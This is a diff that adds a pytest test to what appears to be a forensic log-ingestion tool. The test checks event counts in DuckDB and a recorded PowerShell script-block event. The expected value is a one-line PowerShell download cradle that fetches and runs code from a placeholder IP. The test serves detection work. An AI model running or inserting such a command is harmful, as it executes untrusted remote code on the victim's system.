@@ -134,3 +134,18 @@ def test_real_evidence_round_trips_through_duckdb(shared_data: Path, tmp_path: P
         back = list(read_table(con))
     key = lambda e: (e.source_file, e.record_id or 0, e.timestamp, repr(e.fields))  # noqa: E731
     assert sorted(back, key=key) == sorted(events, key=key)
+
+
+def test_ingest_to_duckdb_counts_everything(tmp_path: Path) -> None:
+    from casefile.ingest.columnar import IngestSummary, ingest_to_duckdb
+
+    data = Path(__file__).parent.parent / "data" / "ingest"
+    seen: list[object] = []
+    with duckdb.connect(str(tmp_path / "case.duckdb")) as con:
+        summary = ingest_to_duckdb([data], con, on_warning=seen.append)
+        assert summary == IngestSummary(files=5, events=10, warnings=3, sources=10)
+        assert len(seen) == 3
+        assert con.execute("SELECT count(*) FROM events").fetchall() == [(10,)]
+        assert con.execute(
+            "SELECT fields['ScriptBlockText'] FROM events WHERE event_id = ?", [4104]
+        ).fetchall() == [("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",)]
